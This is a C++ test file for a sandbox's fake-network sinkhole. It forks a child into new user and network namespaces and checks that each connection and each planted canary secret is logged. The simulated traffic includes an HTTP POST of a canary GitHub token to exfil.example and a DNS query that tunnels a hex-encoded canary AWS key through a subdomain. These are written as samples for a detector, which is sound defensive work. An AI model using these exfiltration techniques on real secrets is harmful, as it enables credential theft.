// End to end in a real network namespace: fake routes, listeners handed to the supervisor's
// sinkhole over SCM_RIGHTS (as init does), and a client dialling public addresses that land there.
#include "sandbox/decoy/canary_set.h"
#include "sandbox/decoy/text_encodings.h"
#include "sandbox/net/fake_routes.h"
#include "sandbox/net/listeners.h"
#include "sandbox/net/sinkhole.h"
#include "sandbox_net_support.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

#include <doctest/doctest.h>

#include <cstring>

using namespace assay::sandbox;
using namespace sandbox_net_test;

namespace {

constexpr int kNoUserNamespaces = 99;
constexpr int kSetupFailed = 98;

bool write_file(const char* path, const std::string& text) {
  int fd = ::open(path, O_WRONLY | O_CLOEXEC);
  if (fd < 0) return false;
  bool ok = ::write(fd, text.data(), text.size()) == static_cast<ssize_t>(text.size());
  ::close(fd);
  return ok;
}

int dial(const char* address, int port, int type = SOCK_STREAM) {
  sockaddr_storage storage{};
  socklen_t length = 0;
  int family = std::string(address).find(':') != std::string::npos ? AF_INET6 : AF_INET;
  if (family == AF_INET) {
    auto& v4 = reinterpret_cast<sockaddr_in&>(storage);
    v4.sin_family = AF_INET;
    v4.sin_port = htons(static_cast<uint16_t>(port));
    ::inet_pton(AF_INET, address, &v4.sin_addr);
    length = sizeof v4;
  } else {
    auto& v6 = reinterpret_cast<sockaddr_in6&>(storage);
    v6.sin6_family = AF_INET6;
    v6.sin6_port = htons(static_cast<uint16_t>(port));
    ::inet_pton(AF_INET6, address, &v6.sin6_addr);
    length = sizeof v6;
  }
  int fd = ::socket(family, type | SOCK_CLOEXEC, 0);
  timeval timeout{3, 0};
  ::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &timeout, sizeof timeout);
  if (::connect(fd, reinterpret_cast<sockaddr*>(&storage), length) != 0) {
    ::close(fd);
    return -1;
  }
  return fd;
}

// Sends `request`, returns all bytes until the sinkhole closes (or the 3 s timeout).
std::string exchange(int fd, const std::string& request) {
  std::string out;
  if (fd < 0 || ::send(fd, request.data(), request.size(), MSG_NOSIGNAL) != static_cast<ssize_t>(request.size()))
    return "send failed";
  char buffer[4096];
  for (ssize_t n; (n = ::recv(fd, buffer, sizeof buffer, 0)) > 0;) out.append(buffer, static_cast<std::size_t>(n));
  ::close(fd);
  return out;
}

std::string dns_query_packet(const std::string& dotted_name) {
  std::string packet("\xab\xcd\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  std::size_t start = 0;
  while (start < dotted_name.size()) {
    std::size_t dot = dotted_name.find('.', start);
    if (dot == std::string::npos) dot = dotted_name.size();
    packet += static_cast<char>(dot - start);
    packet += dotted_name.substr(start, dot - start);
    start = dot + 1;
  }
  return packet + std::string("\x00\x00\x01\x00\x01", 5);
}

// The sandboxed side. Runs in a forked child: plain returns, no doctest macros. Exit status is
// a bit set of failed steps.
[[noreturn]] void run_inside(int channel, const std::string& http_request, const std::string& hello,
                             const std::string& dns_name) {
  const uid_t uid = ::getuid();
  const gid_t gid = ::getgid();
  if (::unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0) ::_exit(kNoUserNamespaces);
  write_file("/proc/self/setgroups", "deny");
  if (!write_file("/proc/self/uid_map", "0 " + std::to_string(uid) + " 1") ||
      !write_file("/proc/self/gid_map", "0 " + std::to_string(gid) + " 1"))
    ::_exit(kSetupFailed);
  FakeRoutes routes;
  try {
    routes = setup_fake_routes();
    setup_fake_routes();  // idempotent
  } catch (const std::exception&) {
    ::_exit(kSetupFailed);
  }
  std::vector<int> fds = {open_tcp_listener(80, 4), open_tcp_listener(443, 4), open_udp_socket(53, 4)};
  if (routes.ipv6) fds.push_back(open_tcp_listener(80, 6));
  for (int fd : fds)
    if (fd < 0) ::_exit(kSetupFailed);

  char flag = routes.ipv6 ? '6' : '4';
  iovec io{&flag, 1};
  alignas(cmsghdr) char control[CMSG_SPACE(4 * sizeof(int))] = {};
  msghdr message{};
  message.msg_iov = &io;
  message.msg_iovlen = 1;
  message.msg_control = control;
  message.msg_controllen = CMSG_SPACE(fds.size() * sizeof(int));
  cmsghdr* c = CMSG_FIRSTHDR(&message);
  c->cmsg_level = SOL_SOCKET;
  c->cmsg_type = SCM_RIGHTS;
  c->cmsg_len = CMSG_LEN(fds.size() * sizeof(int));
  std::memcpy(CMSG_DATA(c), fds.data(), fds.size() * sizeof(int));
  if (::sendmsg(channel, &message, 0) != 1) ::_exit(kSetupFailed);
  for (int fd : fds) ::close(fd);
  char go = 0;
  if (::read(channel, &go, 1) != 1) ::_exit(kSetupFailed);

  int failed = 0;
  if (exchange(dial("203.0.113.7", 80), http_request).rfind("HTTP/1.1 200 OK\r\n", 0) != 0) failed |= 1;
  if (routes.ipv6 &&
      exchange(dial("2001:db8::7", 80), "GET / HTTP/1.1\r\nHost: v6.example\r\n\r\n").rfind("HTTP/1.1 200 OK", 0) != 0)
    failed |= 2;
  if (!exchange(dial("198.51.100.20", 443), hello).empty()) failed |= 4;  // closed without a word
  // A hard-coded public resolver is answered by the sinkhole too, from the address asked.
  std::string answer = exchange(dial("8.8.8.8", 53, SOCK_DGRAM), dns_query_packet(dns_name));
  if (answer.size() < 4 || answer.substr(answer.size() - 4) != std::string("\xc6\x12\x00\x01", 4)) failed |= 8;
  // The answer leads to the sinkhole as well.
  if (exchange(dial("198.18.0.1", 443), hello).size() != 0) failed |= 16;
  ::_exit(failed);
}

}  // namespace

TEST_SUITE("sandbox net fake network") {
  TEST_CASE("in a new netns every address dialled lands in the supervisor's sinkhole and is recorded") {
    CanarySet canaries = CanarySet::generate();
    const std::string body = "{\"gh\":\"" + canaries.value("env-GITHUB_TOKEN") + "\"}";
    const std::string http_request = "POST /collect HTTP/1.1\r\nHost: exfil.example\r\nContent-Type: application/json\r\n"
                                     "Content-Length: " + std::to_string(body.size()) + "\r\n\r\n" + body;
    const std::string hello = read_fixture("client-hello-python-openssl.bin");
    const std::string hex = hex_encode(canaries.value("env-AWS_SECRET_ACCESS_KEY"));
    const std::string dns_name = hex.substr(0, 40) + "." + hex.substr(40) + ".t.exfil.example";

    int pair[2];
    REQUIRE(::socketpair(AF_UNIX, SOCK_SEQPACKET | SOCK_CLOEXEC, 0, pair) == 0);
    pid_t child = ::fork();
    REQUIRE(child >= 0);
    if (child == 0) {
      ::close(pair[0]);
      run_inside(pair[1], http_request, hello, dns_name);
    }
    ::close(pair[1]);

    EventLog log;
    SinkholeOptions options;
    options.canaries = &canaries;
    Sinkhole sinkhole(log, options);
    char flag = 0;
    iovec io{&flag, 1};
    alignas(cmsghdr) char control[CMSG_SPACE(4 * sizeof(int))] = {};
    msghdr message{};
    message.msg_iov = &io;
    message.msg_iovlen = 1;
    message.msg_control = control;
    message.msg_controllen = sizeof control;
    pollfd p{pair[0], POLLIN, 0};
    bool received = ::poll(&p, 1, 10000) == 1 && ::recvmsg(pair[0], &message, MSG_CMSG_CLOEXEC) == 1;
    if (!received) {
      int status = 0;
      ::waitpid(child, &status, 0);
      ::close(pair[0]);
      if (WIFEXITED(status) && WEXITSTATUS(status) == kNoUserNamespaces) {
        MESSAGE("user namespaces unavailable here: fake network not exercised");
        return;
      }
      FAIL("the namespace side failed to set up, status " << status);
    }
    cmsghdr* c = CMSG_FIRSTHDR(&message);
    REQUIRE(c);
    const std::size_t count = (c->cmsg_len - CMSG_LEN(0)) / sizeof(int);
    std::vector<int> fds(count);
    std::memcpy(fds.data(), CMSG_DATA(c), count * sizeof(int));
    const bool ipv6 = flag == '6';
    REQUIRE(count == (ipv6 ? 4u : 3u));
    sinkhole.add_tcp_listener(fds[0], 80);
    sinkhole.add_tcp_listener(fds[1], 443);
    sinkhole.add_dns_socket(fds[2]);
    if (ipv6) sinkhole.add_tcp_listener(fds[3], 80);
    sinkhole.start();
    REQUIRE(::write(pair[0], "g", 1) == 1);

    int status = -1;
    for (int waited = 0; waited < 2000 && ::waitpid(child, &status, WNOHANG) == 0; ++waited) ::usleep(10000);
    if (!WIFEXITED(status)) {
      ::kill(child, SIGKILL);
      ::waitpid(child, &status, 0);
    }
    ::close(pair[0]);
    sinkhole.stop();
    CHECK(WIFEXITED(status));
    CHECK(WEXITSTATUS(status) == 0);

    std::vector<std::string> expected = {
        "sinkhole_connection 203.0.113.7 80 tcp",
        "sinkhole_data 203.0.113.7 80 tcp | http POST /collect HTTP/1.1 host=exfil.example",
        "canary_seen 203.0.113.7 80 tcp | sinkhole | canary=env-GITHUB_TOKEN",
    };
    if (ipv6) {
      expected.push_back("sinkhole_connection 2001:db8::7 80 tcp");
      expected.push_back("sinkhole_data 2001:db8::7 80 tcp | http GET / HTTP/1.1 host=v6.example");
    } else {
      MESSAGE("IPv6 is off in this kernel: only IPv4 exercised");
    }
    expected.push_back("sinkhole_connection 198.51.100.20 443 tcp");
    expected.push_back("sinkhole_data 198.51.100.20 443 tcp | tls sni=api.exfil-collector.example");
    expected.push_back("dns_query 8.8.8.8 53 udp | name=" + dns_name + " | A");
    expected.push_back("canary_seen 8.8.8.8 53 udp | name=" + dns_name + " | dns | canary=env-AWS_SECRET_ACCESS_KEY");
    expected.push_back("sinkhole_connection 198.18.0.1 443 tcp");
    expected.push_back("sinkhole_data 198.18.0.1 443 tcp | tls sni=api.exfil-collector.example");

    std::vector<std::string> actual;
    for (const Event& e : log.snapshot()) actual.push_back(describe(e));
    CHECK(actual == expected);
    auto events = log.snapshot();
    REQUIRE(events.size() >= 2);
    CHECK(events[1].data == http_request);
  }
}
